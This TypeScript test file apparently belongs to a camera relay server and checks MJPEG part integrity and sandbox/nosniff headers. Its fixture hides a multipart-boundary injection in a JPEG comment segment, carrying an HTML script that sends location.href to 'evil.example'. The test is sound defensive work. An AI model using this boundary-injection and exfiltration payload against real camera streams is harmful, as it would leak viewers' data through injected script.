/**
 * A camera's bytes can never end an MJPEG part. The camera here is a raw
 * .mjpeg file passed through untouched, whose every other JPEG carries, in a
 * comment segment, the server's boundary line and an HTML part: what a
 * hostile camera or edge would send once it knows the boundary (any viewer
 * can read it from the Content-Type). Also: MJPEG and snapshot responses are
 * sandboxed and never sniffed.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { BOUNDARY } from '../../../src/outputs/mjpeg/part.js';
import { ffmpegJpeg, startServer, waitFor, type TestServer } from '../../support/index.js';
import { openMjpeg } from './mjpeg-client.js';

const good = ffmpegJpeg(160, 120);

/** `jpeg` with a COM segment (FF FE) right after SOI holding `text`. */
function withComment(jpeg: Buffer, text: string): Buffer {
  const payload = Buffer.from(text, 'latin1');
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, payload, jpeg.subarray(2)]);
}

const html = '<html><script>fetch("//evil.example/?" + encodeURIComponent(location.href))</script></html>';
const evil = withComment(good, `\r\n--${BOUNDARY}\r\nContent-Type: text/html\r\n\r\n${html}\r\n--${BOUNDARY}\r\n`);
const sha1 = (b: Buffer): string => createHash('sha1').update(b).digest('hex');

describe('MJPEG part integrity', () => {
  let t: TestServer;

  before(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'camrelay-evil-'));
    const file = join(dir, 'evil.mjpeg');
    writeFileSync(file, Buffer.concat(Array.from({ length: 10 }, (_, i) => (i % 2 ? evil : good))));
    t = await startServer([`cam=file:${file}?fps=20`]);
  });

  after(async () => {
    await t.close();
  });

  it('uses an unpredictable boundary and never sends a frame that contains it', async () => {
    assert.match(BOUNDARY, /^camrelay[0-9a-f]{32}$/);
    // The evil frame does reach the camera untouched: only the MJPEG output refuses it.
    const seen = new Set<string>();
    const unsubscribe = t.server.registry.get('cam')!.subscribe({ onUnit: (f) => seen.add(sha1(f.data)) });
    const client = await openMjpeg(`${t.url}/api/cameras/cam/stream.mjpeg`);
    try {
      assert.equal(client.response.headers['content-type'], `multipart/x-mixed-replace; boundary=${BOUNDARY}`);
      await waitFor(
        () => client.parts.length >= 10 && seen.has(sha1(evil)),
        15_000,
        '10 parts, and the camera to have sent its evil frame',
      );
      for (const part of client.parts) {
        assert.equal(part.headers['content-type'], 'image/jpeg');
        assert.equal(sha1(part.body), sha1(good), 'only the clean frame is ever sent');
      }
    } finally {
      client.close();
      unsubscribe();
    }
  });

  it('sandboxes MJPEG streams (mjpg-streamer URLs too) and snapshots, and forbids sniffing', async () => {
    for (const path of ['/api/cameras/cam/stream.mjpeg', '/?action=stream', '/?action=stream_0']) {
      const client = await openMjpeg(`${t.url}${path}`);
      try {
        assert.equal(client.response.headers['content-security-policy'], 'sandbox', path);
        assert.equal(client.response.headers['x-content-type-options'], 'nosniff', path);
        await client.first;
      } finally {
        client.close();
      }
    }
    for (const path of ['/api/cameras/cam/snapshot.jpg', '/?action=snapshot']) {
      const res = await fetch(`${t.url}${path}`);
      await res.arrayBuffer();
      assert.equal(res.headers.get('content-type'), 'image/jpeg', path);
      assert.equal(res.headers.get('content-security-policy'), 'sandbox', path);
      assert.equal(res.headers.get('x-content-type-options'), 'nosniff', path);
    }
  });
});
